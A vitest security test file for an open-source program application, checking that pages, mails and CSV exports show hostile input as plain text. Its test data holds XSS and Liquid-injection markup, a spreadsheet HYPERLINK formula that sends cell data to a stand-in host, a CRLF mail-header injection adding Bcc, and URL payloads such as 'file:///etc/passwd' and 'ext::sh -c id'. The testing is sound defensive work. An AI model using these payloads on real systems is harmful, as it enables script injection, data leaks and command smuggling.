import { beforeAll, describe, expect, test } from 'vitest';
import { operationsOf } from '#kernel/contract/router.ts';
import { makeTestAccount } from '#tests/support/accounts.ts';
import { cellsOf, isFormula } from '#tests/support/csv.ts';
import { testHouse } from '#tests/support/house.ts';
import { markupOf } from '#tests/support/markup.ts';
import { open } from '#tests/support/page.ts';
import { type Applied, apply, confirm, LOCAL_CHECKS, openProgram, requiring } from '#tests/support/program.ts';
import { modules } from '../../src/app/modules.ts';
import { openSourcePreset } from '../../src/modules/programs/presets/open-source.ts';

/** In every hostile text, and nowhere in our own. */
const MARK = 'zqx';
/** Leaves an attribute, a text box, a title, a comment; brings an element, a handler, a script, an address that runs, and Liquid. */
const MARKUP = `${MARK} '"></textarea></title>--><${MARK}-a ${MARK}=1 onclick=${MARK}()><script>${MARK}()</script><img src=${MARK} onerror=${MARK}()><a href="javascript:${MARK}()">a</a>{{ "${MARK}" | append: "-run" }}`;
/** A spreadsheet would ask an address of the stranger's for it. */
const FORMULA = `=HYPERLINK("//${MARK}.example/"&A1,"${MARK}")`;
/** Would be a header of its own where lines of a header are not kept together. */
const HEADER = `${MARK} a\r\nBcc: everybody@${MARK}.example\r\nX-Zqx: 1\r\n\r\nb`;
const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER } as const;
const LINE_END = /[\r\n]+/g;

/** Nobody listens there, so that what webhooks send fails at once. */
const house = await testHouse({ allowPrivateHosts: 'localhost:9' });
/** An owner whose name is hostile, too. */
const { token } = await house.transact((c) =>
  makeTestAccount(c, { role: 'owner', program: null, name: MARKUP.slice(0, 120) }),
);
const owner = house.client({ authorization: `Bearer ${token}` });
const operations = operationsOf(house.house);
const applied: Applied[] = [];
const keys: string[] = [];
let program = '';
let draft = '';

/** What people of the organisation write themselves, as hostile as it lets them. */
async function writeAsStaff(): Promise<void> {
  await owner.access.updateOrganisation({
    ...(await owner.access.organisation({})),
    name: MARKUP.slice(0, 120),
    privacyContact: MARKUP.slice(0, 200),
  });
  const { policy } = openSourcePreset;
  const said = (words: string) => `${words} ${MARKUP}\n\n${FORMULA}`;
  await owner.programs.publishPolicy({
    program,
    basedOn: (await owner.programs.getProgram({ program })).policyVersion,
    policy: {
      ...policy,
      automatic: false,
      undoMinutes: 0,
      summary: said('Summary'),
      benefit: { ...policy.benefit, words: said('Benefit') },
      requirements: requiring(LOCAL_CHECKS).map((each) => ({ ...each, words: said(each.check) })),
      statements: policy.statements.map((each) => ({ ...each, words: said(each.code) })),
      agreement: { version: MARKUP.slice(0, 40), title: said('Title'), text: said('Text') },
      privacy: { version: MARKUP.slice(0, 40), text: said('Privacy') },
      reasons: policy.reasons.map((each) => ({ ...each, label: said('Label'), advice: said('Advice') })),
    },
  });
}

/** An application whose every free text is `text`, brought to an end of each kind, with words from both sides. */
async function applyWith(text: string): Promise<void> {
  const one = async (n: string, act: (id: string, key: string) => Promise<unknown>) => {
    const namespaceUrl = `https://gitlab.com/group-${applied.length}/a`;
    const each = await apply(house, `${applied.length}-${n}`, {
      applicantName: text.slice(0, 200),
      project: text.slice(0, 200),
      purpose: text,
      namespaceUrl,
    });
    const key = await confirm(house, each);
    applied.push(each);
    keys.push(key);
    await house.work();
    await act(each.id, key);
    await house.work();
  };
  const staff = owner.programs;
  const { stranger } = house;
  await one('member', async (id, key) => {
    await staff.askApplicant({ id, words: text });
    await stranger.programs.answerQuestion({ key, body: text });
    await stranger.programs.writeToTeam({ key, body: text });
    await staff.writeToApplicant({ id, body: text });
    await owner.work.addNote({ about: { kind: 'application', id }, body: text });
    await owner.work.addTodo({ title: text.slice(0, 300), about: { kind: 'application', id } });
    await staff.approveApplication({ id, words: text });
    await house.work();
    const { agreement } = await stranger.programs.application({ key });
    await stranger.programs.acceptAgreement({ key, version: agreement?.version ?? '', signedName: text.slice(0, 200) });
    await house.work();
    await staff.confirmBooking({ id, reference: text.slice(0, 200) });
  });
  // The others show nothing that this one does not: the tables and headers of one are enough.
  if (text !== MARKUP) return;
  await one('refused', async (id) => {
    const reason = (await staff.getProgram({ program })).policy.reasons[0]?.code ?? '';
    await staff.refuseApplication({ id, reason, words: text });
  });
  await one('asked', (id) => staff.askApplicant({ id, words: text }));
  await one('moved', (_id, key) =>
    stranger.programs.changeAddress({ key, address: `moved-${keys.length}@example.org` }),
  );
}

beforeAll(async () => {
  program = await openProgram(house);
  for (const [n, text] of Object.entries(TEXTS)) {
    await owner.programs.addCoupons({
      program,
      sku: 'OSS-SAAS-1Y',
      name: text.slice(0, 120),
      csv: [1, 2].map((i) => `${n}-CODE-${i}`).join('\n'),
    });
    const mail = `invited-${n}@example.org`;
    await owner.access.invite({ mail, name: text.replace(LINE_END, ' ').slice(0, 120), role: 'reviewer', program });
    await owner.access.makeRole({ name: text.replace(LINE_END, ' ').slice(0, 50), permissions: ['applications.read'] });
  }
  const webhook = await owner.webhooks.addEndpoint({
    address: `https://localhost:9/${MARK}`,
    words: MARKUP.slice(0, 200),
    kinds: null,
    program: null,
  });
  await writeAsStaff();
  for (const text of Object.values(TEXTS)) await applyWith(text);
  const answers = Object.fromEntries(
    ['applicantName', 'address', 'country', 'project', 'namespaceUrl', 'repositories', 'purpose', 'hosting'].map(
      (name) => [name, MARKUP],
    ),
  );
  ({ key: draft } = await house.stranger.programs.saveDraft({
    program: 'open-source',
    answers: { ...answers, statements: [MARKUP] },
  }));
  await house.stranger.programs.mailDraftLink({ key: draft, address: 'draft@example.org' });
  for (const { address } of applied.slice(0, 3)) await house.stranger.programs.mailLostLink({ address });
  await house.stranger.access.requestPasswordReset({ mail: (await owner.access.me({})).account?.mail ?? '' });
  await owner.webhooks.sendTest({ id: webhook.id });
  const { rows: people } = await owner.community.listPeople({});
  await owner.community.mergePeople({
    one: people[0]?.id ?? '',
    other: people[1]?.id ?? '',
    reason: MARKUP.slice(0, 200),
  });
  house.clock.advance({ minutes: 10 });
  await house.work();
}, 60_000);

const decoded = (words: readonly string[]) => words.join('\n');

describe('pages for people outside', () => {
  const routes = modules.flatMap((module) => module.publicRoutes ?? []).filter(({ method }) => method === 'GET');
  /** What is no page, or is read below. */
  const ELSEWHERE = /^\/(auth\/|backups\/|mail\/)/;
  const keyFor = (path: string): string[] => {
    if (path.startsWith('/a/confirm/') || path.startsWith('/a/address/')) return ['A'.repeat(43)];
    return path.startsWith('/a/') ? keys : [''];
  };

  test.each(routes.filter(({ path }) => !ELSEWHERE.test(path)).map(({ path }) => [path]))(
    '%s shows words as words',
    async (path) => {
      let pages = 0;
      for (const key of keyFor(path)) {
        const filled = path.replace(':key', key).replace(':program', 'open-source');
        for (const query of [
          '',
          `?draft=${draft}`,
          `?done=${encodeURIComponent(MARKUP)}&number=${encodeURIComponent(MARKUP)}`,
        ]) {
          const page = await open(house, filled + query);
          const { faults, words, values } = markupOf(page.html, MARK);
          expect(faults, filled + query).toEqual([]);
          expect(decoded([...words, ...values]), filled).not.toContain(`${MARK}-run`);
          if (page.status !== 200) continue;
          pages++;
          // The name of the organisation stands on every page, so each of them has shown something hostile as words.
          expect(decoded([...words, ...values]), filled).toContain(`<${MARK}-a ${MARK}=1`);
        }
      }
      expect(pages, 'pages that opened').toBeGreaterThan(0);
    },
  );

  test('and each of the texts was there to be shown', async () => {
    const shown = new Set<string>();
    for (const key of keys)
      for (const word of markupOf((await open(house, `/a/${key}`)).html, MARK).words) shown.add(word);
    const all = [...shown].join('\n');
    for (const piece of [MARKUP, FORMULA, `Text ${MARKUP}`, `Advice ${MARKUP}`, `Title ${MARKUP}`])
      expect(all).toContain(piece);
    const form = markupOf((await open(house, `/apply/open-source/form?draft=${draft}`)).html, MARK);
    expect(form.values).toContain(MARKUP);
    expect(form.words.join('\n')).toContain(MARKUP);
  });
});

describe('mails', () => {
  test('show words as words, in the frame too, and run no Liquid of a stranger', async () => {
    const mails = await house.mailbox();
    const said = new Set(mails.map((mail) => mail.template));
    expect([...said].toSorted()).toEqual(
      expect.arrayContaining([
        'access.invitation',
        'programs.approved',
        'programs.coupon',
        'programs.refused',
        'programs.lost-link',
      ]),
    );
    expect(mails.length).toBeGreaterThan(25);
    let hostile = 0;
    for (const mail of mails) {
      for (const html of [
        mail.html,
        await (
          await house.request(`/mail/messages/${mail.id}/frame`, {
            headers: { authorization: `Bearer ${token}` },
          })
        ).text(),
      ]) {
        const { faults, words, values } = markupOf(html.replace('<base target="_blank">', ''), MARK);
        expect(faults, `${mail.template} ${mail.subject}`).toEqual([]);
        expect(decoded([...words, ...values])).not.toContain(`${MARK}-run`);
        if (decoded(words).includes(`<${MARK}-a`)) hostile++;
      }
      expect(mail.text).not.toContain(`${MARK}-run`);
      expect(mail.subject).not.toMatch(/[\r\n]/);
    }
    expect(hostile).toBeGreaterThan(mails.length);
  });

  test('have the headers that we write, and no other; one receiver each', async () => {
    const OURS =
      /^(from|to|subject|message-id|date|mime-version|content-type|auto-submitted|x-auto-response-suppress|reply-to|x-guildhall-[a-z]+|list-[a-z-]+)$/;
    for (const { id } of await house.mailbox()) {
      const { eml } = await owner.mail.source({ id });
      const head = (eml.split('\r\n\r\n', 1)[0] ?? '').replace(/\r\n[ \t]+/g, ' ').split('\r\n');
      const names = head.map((line) => line.split(':', 1)[0]?.toLowerCase() ?? '');
      expect(names.filter((name) => !OURS.test(name))).toEqual([]);
      expect(new Set(names).size).toBe(names.length);
      const to = head.find((line) => /^to:/i.test(line)) ?? '';
      expect(to.match(/<[^<>\s]+@[^<>\s]+>|^To: [^<>\s"]+@[^<>\s"]+$/g), to).toHaveLength(1);
      expect(eml.match(/\r(?!\n)|(?<!\r)\n/)).toBeNull();
    }
  });
});

describe('tables that are exported', () => {
  /** Every operation that answers a table; what the one for a person answers is JSON. */
  const exports = operations.filter(({ name }) => /\.export[A-Z]/.test(name) && name !== 'community.exportPerson');
  /** What those ask for that cannot do without. */
  const inputOf = async (name: string): Promise<object> => {
    if (name === 'programs.exportCoupons' || name === 'programs.exportMembers') return { program };
    if (name === 'webhooks.exportDeliveries') return { endpoint: (await owner.webhooks.endpoints({})).rows[0]?.id };
    return {};
  };

  test('are some', () => expect(exports.length).toBeGreaterThan(5));

  test.each(exports.map((each) => [each.name, each] as const))(
    '%s holds no formula, and every cell stays in its place',
    async (name, { path }) => {
      const response = await house.request(`/rpc/${path.join('/')}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify({ json: await inputOf(name) }),
      });
      const { json } = (await response.json()) as { json: { csv?: string; text?: string } };
      expect(response.status, JSON.stringify(json)).toBe(200);
      const csv = json.csv ?? json.text ?? '';
      const lines = cellsOf(csv);
      expect(lines.length).toBeGreaterThan(1);
      for (const line of lines) {
        expect(line.length, line.join(' | ').slice(0, 300)).toBe(lines[0]?.length);
        expect(line.filter(isFormula)).toEqual([]);
      }
      // Where semicolons part cells, what stands behind one begins a cell as well.
      for (const bare of csv.replace(/"(?:[^"]|"")*"/g, '""').split(/[,;\r\n]/))
        expect(isFormula(bare), bare).toBe(false);
    },
  );

  test('and the hostile texts were in them', async () => {
    const { csv } = await owner.programs.exportApplications({});
    expect(csv).toContain(`'=HYPERLINK`);
    expect(cellsOf(csv).flat()).toContain(MARKUP.slice(0, 200));
  });
});

test.each([
  `https://gitlab.com/a/b"onclick=${MARK}()`,
  `https://gitlab.com/a/<${MARK}>`,
  'javascript:alert(1)//gitlab.com/a/b',
  'data:text/html,<script>alert(1)</script>',
  'java\tscript:alert(1)',
  'vbscript:x',
  'file:///etc/passwd',
  'ext::sh -c id',
])('%s is no address of a project', async (namespaceUrl) => {
  await expect(apply(house, 'nowhere', { namespaceUrl })).rejects.toMatchObject({ code: 'INVALID' });
});

test.each([
  { applicantName: 'Win at https://evil.example' },
  { project: 'Pay now: http://evil.example' },
  { project: 'See WWW.evil.example' },
])('%j would be an advertisement in a mail of ours', async (change) => {
  await expect(apply(house, 'spam', change)).rejects.toMatchObject({ code: 'INVALID' });
});

test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
  '%s is no address of a shop',
  async (checkoutUrl) => {
    const { policy, policyVersion } = await owner.programs.getProgram({ program });
    const changed = { ...policy, benefit: { ...policy.benefit, checkoutUrl } };
    await expect(
      owner.programs.publishPolicy({ program, basedOn: policyVersion, policy: changed }),
    ).rejects.toMatchObject({ code: 'INVALID' });
  },
);

test('the page for addresses that lead nowhere holds nothing of a stranger either', async () => {
  for (const path of [`/${encodeURIComponent(MARKUP)}`, `//${MARK}.example/a`, `/\\${MARK}.example/a`]) {
    const lost = await house.request(`https://guildhall.test${path}`, { headers: { accept: 'text/html' } });
    expect(markupOf(await lost.text(), MARK).faults, path).toEqual([]);
  }
});
